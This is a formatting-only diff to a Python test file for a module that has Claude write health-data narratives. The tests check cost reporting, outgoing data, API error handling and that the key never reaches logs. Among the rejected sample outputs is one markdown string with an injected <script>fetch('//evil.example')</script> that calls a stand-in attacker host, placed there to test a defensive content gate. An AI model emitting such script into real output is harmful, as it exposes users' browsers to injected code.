@@ -14,7 +14,13 @@ from anthropic.resources.messages.messages import DEPRECATED_MODELS
 from anthropic.types import Model
 from pydantic import SecretStr
 
-from bio_lakehouse.narrative.claude_request import DEFAULT_MODEL, SHORTEST_CACHED_TOKENS, SYSTEM, ClaudeAccess, egress
+from bio_lakehouse.narrative.claude_request import (
+    DEFAULT_MODEL,
+    SHORTEST_CACHED_TOKENS,
+    SYSTEM,
+    ClaudeAccess,
+    egress,
+)
 from bio_lakehouse.narrative.claude_writer import ClaudeWriter, writer_for
 from bio_lakehouse.narrative.facts import Facts, FactsBuilder
 from bio_lakehouse.narrative.gate import objections
@@ -51,7 +57,9 @@ BAD = {
     "a wrong weekday": written_out("{high.h.label} came on Tuesday."),
     "a weekday of another high": written_out("{high.h.label} came on {high.r.weekday}."),
     "a cause": written_out("HRV was {h.direction} because of your training."),
-    "markdown with a script": written_out("**HRV** was {h.direction}. <script>fetch('//evil.example')</script>"),
+    "markdown with a script": written_out(
+        "**HRV** was {h.direction}. <script>fetch('//evil.example')</script>"
+    ),
     "a flipped direction": written_out("HRV fell to {h.week}."),
     "nothing": "",
 }
@@ -73,7 +81,11 @@ def ask(facts: Facts, *replies: Reply, seconds: float = 20.0) -> tuple[Narrative
 
 def is_template(narrative: Narrative, facts: Facts) -> bool:
     template = TemplateWriter().write(facts)
-    return narrative.author == "templates" and narrative.text == template.text and narrative.draft == template.draft
+    return (
+        narrative.author == "templates"
+        and narrative.text == template.text
+        and narrative.draft == template.draft
+    )
 
 
 def test_a_good_text_is_filled_by_code(facts: Facts) -> None:
@@ -88,7 +100,10 @@ def test_what_it_cost_is_said(facts: Facts) -> None:
     narrative, _ = ask(facts, says(GOOD))
     assert narrative.usage == Usage(800, 250, 1200, 300)
     assert narrative.cost_usd == pytest.approx((800 * 2 + 250 * 10 + 1200 * 2.5 + 300 * 0.1) / 1e6)
-    assert narrative.note == "Written by Claude (claude-sonnet-5-5) in 1 request: 2,550 tokens, about $0.0071."
+    assert (
+        narrative.note
+        == "Written by Claude (claude-sonnet-5-5) in 1 request: 2,550 tokens, about $0.0071."
+    )
 
 
 def test_cost_is_unknown_without_a_price_and_follows_set_ones(facts: Facts) -> None:
@@ -96,7 +111,9 @@ def test_cost_is_unknown_without_a_price_and_follows_set_ones(facts: Facts) -> N
         unknown = replace(access_to(server), model="claude-of-tomorrow")
         assert ClaudeWriter(unknown).write(facts).note.endswith("2,550 tokens, cost unknown.")
         priced = replace(unknown, prices=Prices(100, 200, 300, 400))
-        assert ClaudeWriter(priced).write(facts).cost_usd == pytest.approx(0.08 + 0.05 + 0.36 + 0.12)
+        assert ClaudeWriter(priced).write(facts).cost_usd == pytest.approx(
+            0.08 + 0.05 + 0.36 + 0.12
+        )
 
 
 def test_thinking_is_not_told(facts: Facts) -> None:
@@ -114,7 +131,9 @@ def test_egress_is_what_is_sent_to_the_byte(facts: Facts) -> None:
     assert KEY not in shown
 
 
-@pytest.mark.parametrize("changes", [{"effort": None}, {"effort": "low", "model": "claude-haiku-5-5"}])
+@pytest.mark.parametrize(
+    "changes", [{"effort": None}, {"effort": "low", "model": "claude-haiku-5-5"}]
+)
 def test_egress_follows_the_settings(facts: Facts, changes: dict[str, str | None]) -> None:
     with serving(says(GOOD)) as server:
         access = replace(access_to(server), **changes)  # type: ignore[arg-type]
@@ -127,7 +146,9 @@ def test_egress_follows_the_settings(facts: Facts, changes: dict[str, str | None
 def test_what_is_sent_is_the_facts_and_nothing_else(facts: Facts) -> None:
     with serving(says(GOOD)) as server:
         sent = json.loads(egress(facts, access_to(server)))
-    assert sent["system"] == [{"text": SYSTEM, "type": "text", "cache_control": {"type": "ephemeral"}}]
+    assert sent["system"] == [
+        {"text": SYSTEM, "type": "text", "cache_control": {"type": "ephemeral"}}
+    ]
     assert len(sent["messages"]) == 1
     (block,) = sent["messages"][0]["content"]
     assert json.loads(block["text"]) == facts.as_json()
@@ -159,14 +180,26 @@ STATUSES = [
     (429, "rate_limit_error", "Anthropic had too many requests from this key (429)", 2),
     (529, "overloaded_error", "Claude was overloaded (529)", 2),
     (500, "api_error", "Anthropic answered with an error (500)", 2),
-    (400, "invalid_request_error", "Claude refused the request (400); check BIO_CLAUDE_MODEL and BIO_CLAUDE_EFFORT", 1),
-    (401, "authentication_error", "Anthropic does not accept the key in ANTHROPIC_API_KEY (401)", 1),
+    (
+        400,
+        "invalid_request_error",
+        "Claude refused the request (400); check BIO_CLAUDE_MODEL and BIO_CLAUDE_EFFORT",
+        1,
+    ),
+    (
+        401,
+        "authentication_error",
+        "Anthropic does not accept the key in ANTHROPIC_API_KEY (401)",
+        1,
+    ),
     (404, "not_found_error", "Anthropic does not know the model in BIO_CLAUDE_MODEL (404)", 1),
 ]
 
 
 @pytest.mark.parametrize(("status", "kind", "reason", "requests"), STATUSES)
-def test_an_error_by_status(facts: Facts, status: int, kind: str, reason: str, requests: int) -> None:
+def test_an_error_by_status(
+    facts: Facts, status: int, kind: str, reason: str, requests: int
+) -> None:
     narrative, server = ask(facts, refuses(status, kind, retry_after_ms="1"))
     assert is_template(narrative, facts)
     assert narrative.reason == reason
@@ -239,7 +272,9 @@ def test_nobody_there(facts: Facts) -> None:
     assert narrative.reason == "Anthropic could not be reached"
 
 
-def test_the_key_is_in_no_log_error_or_narrative(facts: Facts, caplog: pytest.LogCaptureFixture) -> None:
+def test_the_key_is_in_no_log_error_or_narrative(
+    facts: Facts, caplog: pytest.LogCaptureFixture
+) -> None:
     caplog.set_level(logging.DEBUG)
     for name in ("anthropic", "httpx2", "httpcore2"):
         caplog.set_level(logging.DEBUG, logger=name)
@@ -250,7 +285,9 @@ def test_the_key_is_in_no_log_error_or_narrative(facts: Facts, caplog: pytest.Lo
         assert KEY not in to_json(narrative) + narrative.note + narrative.text
         assert KEY not in repr(access_to(server))
     assert caplog.records
-    assert KEY not in "\n".join(f"{record.getMessage()} {record.exc_text}" for record in caplog.records)
+    assert KEY not in "\n".join(
+        f"{record.getMessage()} {record.exc_text}" for record in caplog.records
+    )
 
 
 def test_the_example_in_the_prompt_would_pass(facts: Facts) -> None:
